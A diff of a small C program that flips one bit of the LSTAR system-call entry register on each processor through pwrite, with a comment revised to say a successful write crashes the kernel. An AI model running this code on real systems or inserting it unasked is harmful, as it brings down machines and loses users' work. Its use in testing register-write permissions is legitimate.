@@ -1,4 +1,5 @@
-// Writes the present value of LSTAR, plus 1, to LSTAR of each processor, and the old value back. Prints the result for each.
+// Changes one bit of LSTAR, the kernel's entry for system calls, on each processor, and prints the result for each. If a write
+// succeeds, the next system call on that processor crashes the kernel.
 #include <errno.h>
 #include <fcntl.h>
 #include <stdint.h>
@@ -17,7 +18,6 @@ int main(void) {
         }
         uint64_t value = 0;
         if (pread(file, &value, sizeof value, 0xc0000082) != sizeof value) printf("REWRITE %d: no read\n", processor);
-        // Between the two writes no system call of another program may run on this processor: there is none.
         value ^= UINT64_C(1) << 40;
         ssize_t written = pwrite(file, &value, sizeof value, 0xc0000082);
         printf("REWRITE %d: %s\n", processor, written < 0 ? strerror(errno) : "written");
